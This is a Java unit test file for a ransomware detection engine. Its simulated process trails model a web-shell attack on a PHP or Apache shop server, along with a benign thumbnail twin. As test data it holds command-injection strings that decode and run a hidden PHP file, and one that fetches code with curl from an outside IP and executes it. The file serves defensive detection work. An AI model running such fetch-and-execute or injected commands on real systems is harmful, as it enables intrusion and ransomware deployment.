package io.ransomtrace.engine;

import io.ransomtrace.engine.finding.Finding;
import io.ransomtrace.engine.finding.Severity;
import io.ransomtrace.engine.model.Credentials;
import io.ransomtrace.engine.trail.Proc;
import io.ransomtrace.engine.trail.Trail;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.function.BiConsumer;

import static io.ransomtrace.engine.AttackScenariosTest.detect;
import static io.ransomtrace.engine.AttackScenariosTest.worst;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Shapes of sample-cases/independent's fourteenth batch: h39, a web shell. A root init script with no login uid
 * starts the shop's web server as www-data ({@code setsid runuser -u www-data -- php -S 127.0.0.1:PORT -t …}); an
 * HTTP request to a page with a command-injection bug makes the server's {@code shell_exec} run {@code sh -c "ping …;
 * echo … | base64 -d > /tmp/.sess_9f2c1; php /tmp/.sess_9f2c1"}, a PHP locker. The first pass rooted the campaign at
 * the web server ({@code php -S}, a script runner by its name), so the finding named the server the attacker used,
 * and every other request it serves would join the campaign. A web server is a service: the walk stops below it,
 * at the shell a request started. The twin: the same server's requests making thumbnails stay quiet.
 */
class FourteenthBatchShapesTest {

    private static final Credentials ROOT_DAEMON = Trail.creds(0, 0, Credentials.UNSET, "root", null);
    private static final Credentials WWW = Trail.creds(33, 33, Credentials.UNSET, "www-data", null);

    /** A root init script starts {@code server} as www-data; one request's shell runs {@code perFile} over 40 uploads. */
    private static List<Finding> webRequest(String[] server, String requestCommand, BiConsumer<Proc, String> perFile) {
        Trail t = new Trail("web-shop01");
        Proc init = t.existing(480, 1, "/usr/bin/bash", ROOT_DAEMON);
        Proc runuser = init.spawn("/usr/bin/setsid", "setsid", "runuser", "-u", "www-data", "--", "php", "-S", "…")
                .exec("/usr/sbin/runuser", "runuser", "-u", "www-data", "--", "php", "-S", "…");
        Proc web = runuser.spawnAs(WWW, server[0], java.util.Arrays.copyOfRange(server, 1, server.length));
        web.spawn("/usr/bin/dash", "sh", "-c", "ping -c 1 -W 1 localhost 2>&1")
                .exec("/usr/bin/ping", "ping", "-c", "1", "-W", "1", "localhost").exit();
        Proc handler = web.spawn("/usr/bin/dash", "sh", "-c", requestCommand);
        Proc job = handler.spawn("/usr/bin/php8.2", "php", "/tmp/.sess_9f2c1");
        for (int d = 0; d < 4; d++) {
            for (int i = 0; i < 10; i++) {
                perFile.accept(job, "/var/www/shop/uploads/clients_" + d + "/IMG_" + (2000 + i) + ".jpg");
            }
        }
        job.exit();
        return detect(t);
    }

    private static final String[] PHP_SERVER = {"/usr/bin/php8.2", "php", "-S", "127.0.0.1:57813", "-t", "/var/www/shop/public"};

    @Test
    void aWebShellsLockerIsRootedAtTheShellTheRequestStartedNotAtTheWebServer() {
        List<Finding> findings = webRequest(PHP_SERVER,
                "ping -c 1 -W 1 127.0.0.1; echo PD9w… | base64 -d > /tmp/.sess_9f2c1; php /tmp/.sess_9f2c1", (job, f) -> {
                    job.create(f + ".wsh").delete(f);
                });
        Finding f = worst(findings);
        assertThat(f.severity().atLeast(Severity.HIGH)).as(f.title()).isTrue();
        // first pass: rooted at "php -S 127.0.0.1:57813 -t /var/www/shop/public", the web server itself
        assertThat(f.rootProcess().commandLine()).contains(".sess_9f2c1").doesNotContain("php -S");
        assertThat(f.rootProcess().user()).isEqualTo("www-data");
        assertThat(f.rootProcess().loginUid()).as("no login anywhere in a web shell's lineage").isNull();
        assertThat(f.filesAffected()).isEqualTo(40);
    }

    @Test
    void theSameUnderApacheIsRootedAtTheRequestsShellToo() {
        Finding f = worst(webRequest(new String[] {"/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start"},
                "curl -s http://203.0.113.9/x | base64 -d > /tmp/.sess_9f2c1; php /tmp/.sess_9f2c1",
                (job, file) -> job.create(file + ".wsh").delete(file)));
        assertThat(f.severity().atLeast(Severity.HIGH)).as(f.title()).isTrue();
        assertThat(f.rootProcess().commandLine()).contains(".sess_9f2c1");
    }

    @Test
    void theSameServersRequestsMakingThumbnailsAreNoAttack() {
        List<Finding> findings = webRequest(PHP_SERVER, "php /tmp/.sess_9f2c1", (job, f) -> {
            String thumb = f.replace("/uploads/", "/uploads/thumbs/").replace(".jpg", "-320.jpg");
            job.spawn("/usr/bin/convert", "convert", f, "-resize", "320x", thumb).create(thumb).exit();
        });
        assertThat(findings).allSatisfy(x -> assertThat(x.severity().atLeast(Severity.MEDIUM)).as(x.title()).isFalse());
    }

    /** {@code python3 -S} (no site imports) runs a script, it serves nothing: only php's -S is a server. */
    @Test
    void aPythonScriptStartedWithMinusSIsStillTheRoot() {
        Trail t = new Trail("ws");
        Proc login = t.sshLogin("priya", 2002);
        Proc py = login.spawn("/usr/bin/python3.11", "python3", "-S", "/var/tmp/.u/lk.py");
        for (int i = 0; i < 30; i++) {
            String f = "/home/priya/work/d" + (i % 3) + "/f" + i + ".docx";
            py.create(f + ".lck").delete(f);
        }
        assertThat(worst(detect(t)).rootProcess().commandLine()).contains("lk.py");
    }
}
